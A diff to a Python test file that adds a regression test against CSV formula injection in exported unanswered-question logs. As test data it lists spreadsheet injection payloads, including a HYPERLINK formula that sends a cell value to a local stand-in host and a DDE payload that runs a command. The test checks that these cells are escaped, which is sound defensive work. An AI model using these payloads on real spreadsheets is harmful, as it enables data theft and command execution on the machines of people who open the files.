@@ -14,6 +14,7 @@ from ui.tab_content import (
     format_timeline,
     french_datetime,
     knowledge_sentence,
+    spreadsheet_cell,
     territory_cards,
     territory_sheet,
     territory_table,
@@ -55,10 +56,29 @@ def test_unanswered_questions_newest_first_and_as_csv() -> None:
     assert unanswered_table(entries)[0] == [
         "2 novembre 2026 à 11 h 00", "Seconde, avec « guillemets » ?", "kind=bilan, session=2", "b.pdf p. 4"
     ]  # fmt: skip
-    parsed = list(csv.reader(io.StringIO(unanswered_csv(entries))))
+    parsed = list(csv.reader(io.StringIO(unanswered_csv(entries)), delimiter=";"))
     assert parsed[0] == ["Date", "Question", "Filtres", "Passages les plus proches"]
     assert parsed[1][0] == "2026-11-02T10:00:00+00:00"  # the file keeps sortable stamps
     assert [row[1] for row in parsed[1:]] == ["Seconde, avec « guillemets » ?", "Première ?"]
+
+
+def test_no_exported_cell_can_run_as_a_formula() -> None:
+    """Issue 18: a declined question such as « =HYPERLINK(…) » opened by a facilitator in a
+    spreadsheet ran; every cell starting like a formula is now written as text."""
+    attacks = [
+        '=HYPERLINK("http://127.0.0.1:9/?d="&A2;"x")',
+        "@SUM(1+1)",
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "\t=1+1",
+        "\r=1+1",
+    ]
+    at = "2026-11-01T10:00:00+00:00"
+    entries = [{"at": at, "question": a, "filters": {"territory": a}, "closest": []} for a in attacks]
+    rows = list(csv.reader(io.StringIO(unanswered_csv(entries)), delimiter=";"))[1:]
+    assert [row[1] for row in rows] == [f"'{attack}" for attack in reversed(attacks)]
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+    assert spreadsheet_cell("Une question ?") == "Une question ?"  # others untouched
 
 
 def test_dates_are_french_local_time() -> None:
